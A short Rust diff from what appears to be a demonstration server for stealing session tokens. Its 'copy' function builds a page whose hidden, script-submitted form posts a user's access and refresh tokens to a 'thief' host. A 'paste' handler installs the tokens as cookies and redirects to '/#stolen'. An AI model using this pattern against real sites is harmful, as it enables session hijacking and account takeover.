@@ -107,7 +107,7 @@ fn copy(request: &Request, thief: &str) -> Reply {
          <form method=post action='{thief}/auth/session/refresh/demo/paste'>\
          <input type=hidden name=a value='{}'><input type=hidden name=r value='{}'>\
          <noscript><button>Paste them</button></noscript></form>\
-         <script src='/hand-over.js'></script></html>",
+         <script src='/static/hand-over.js'></script></html>",
         html(access),
         html(&refresh),
     );
@@ -142,7 +142,7 @@ async fn paste(request: Request) -> Reply {
     };
     let mut moved = reply(StatusCode::SEE_OTHER, "text/plain", "");
     let headers = moved.headers_mut();
-    headers.insert("location", "/".parse().expect("it is a path"));
+    headers.insert("location", "/#stolen".parse().expect("it is a path"));
     headers.append("set-cookie", cookies().set_access(&access));
     headers.append("set-cookie", cookies().set_refresh(&refresh, AN_HOUR));
     moved
